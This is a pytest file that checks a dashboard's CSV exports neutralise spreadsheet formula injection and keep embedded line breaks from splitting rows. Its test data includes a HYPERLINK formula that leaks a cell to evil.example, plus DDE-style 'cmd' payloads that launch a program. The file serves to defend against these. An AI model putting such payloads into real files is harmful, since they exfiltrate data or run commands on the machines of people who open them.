"""CSV downloads are safe to open in a spreadsheet: no formula in a cell runs, and no
line break splits a row, whichever way a CSV is made.

The facts are loaded through the real loader from a fact file in a copy of the harbours
fixture project, as a curator's mistake or a hostile edit would arrive. Streamlit's own
table toolbar writes cells raw, so its export is switched off (a browser test checks
that it offers no download, tests/browser/test_hostile.py) and every table has ours.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import streamlit as st

from dashboard import exports, transforms
from dashboard.cli import main
from dashboard.facts.load import load_facts
from dashboard.paths import REPO_DIR

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")'

# (what a cell starts with, the text a fact carries)
TRIGGERS: list[tuple[str, str]] = [
    ("equals", HYPERLINK),
    ("plus", "+1+1"),
    ("minus", "-2+3+cmd|' /C calc'!A0"),
    ("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab", "\t=1+1"),
    ("carriage return", "\r=1+1"),
]
BASE_FACT = """\
facts:
  - id: test-fact
    statement: A test fact.
    topic: arrivals
    partnership: Norland–Estmark
    countries: [Norland]
    value: 212
    unit: persons
    exactness: exact
    status: happened
    date: {edtf: "2025-02-24/2025-03-02", precision: week, reason: "A test fact's week."}
    source: 101_norland_estmark.txt
    quote: "212 people crossed the Sound"
"""


def with_text(field: str, text: str) -> str:
    """BASE_FACT with ``field`` set to ``text`` (a JSON string is a YAML string too)."""
    if field == "statement":
        return BASE_FACT.replace("statement: A test fact.", f"statement: {json.dumps(text)}")
    return BASE_FACT + f"    {field}: {json.dumps(text)}\n"


def write(project: Path, content: str) -> None:
    (project / "facts" / "zz-test.facts.yaml").write_text(content, encoding="utf-8")


def csv_rows(data: bytes) -> dict[str, dict[str, str]]:
    reader = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return {row["fact_id"]: row for row in reader}


def exported_rows(project: Path) -> dict[str, dict[str, str]]:
    factset = load_facts(project)
    assert factset.errors == []
    return csv_rows(exports.to_csv(transforms.facts_table(factset)))


@pytest.mark.parametrize("field", ["statement", "measure", "notes"])
@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in TRIGGERS])
def test_formula_cells_get_a_leading_quote(harbours: Path, field: str, text: str) -> None:
    write(harbours, with_text(field, text))
    row = exported_rows(harbours)["test-fact"]
    assert row[field] == "'" + text
    assert row["value"] == "212"  # numbers stay numbers, never quoted
    assert float(row["value"]) == 212


def test_ordinary_text_and_negative_looking_numbers_are_left_alone(harbours: Path) -> None:
    write(harbours, with_text("notes", "A 5-day count; 2 = two boats."))
    rows = exported_rows(harbours)
    assert rows["test-fact"]["statement"] == "A test fact."
    assert rows["test-fact"]["notes"] == "A 5-day count; 2 = two boats."
    assert rows["test-fact"]["fact_line"] == "2"
    # Text that does not start with a trigger is unchanged.
    fixture = rows["ne-crossings-2024"]
    assert fixture["statement"] == "4,210 people crossed the Sound in dinghies in 2024."
    assert fixture["value"] == "4210"


def test_cli_export_neutralises_the_formula(
    harbours: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    write(harbours, with_text("statement", HYPERLINK))
    assert main(["--project", str(harbours), "export", "--format", "csv"]) == 0
    row = csv_rows(capsysbinary.readouterr().out)["test-fact"]
    assert row["statement"] == "'" + HYPERLINK
    assert row["value"] == "212"


def test_python_m_dashboard_export_neutralises_the_formula(harbours: Path) -> None:
    """The command exactly as a user types it, in a process of its own."""
    write(harbours, with_text("statement", HYPERLINK))
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "dashboard",
            "--project",
            str(harbours),
            "export",
            "--format",
            "csv",
        ],
        cwd=REPO_DIR,
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode()
    row = csv_rows(done.stdout)["test-fact"]
    assert row["statement"] == "'" + HYPERLINK
    assert row["value"] == "212"


def test_line_breaks_inside_a_cell_never_split_the_row(harbours: Path) -> None:
    notes = "first line\rsecond line\r\nthird line\nfourth"
    write(harbours, with_text("notes", notes))
    factset = load_facts(harbours)
    data = exports.to_csv(transforms.facts_table(factset))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1 + len(factset.facts)
    assert csv_rows(data)["test-fact"]["notes"] == notes


def test_streamlits_own_table_export_is_switched_off() -> None:
    """Its toolbar's "Download as CSV" writes formulas raw and splits rows on a CR."""
    config = tomllib.loads((REPO_DIR / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
    # The tests run from the repository, as the server does: Streamlit read that file.
    assert st.get_option("client.disableDataExport") is True
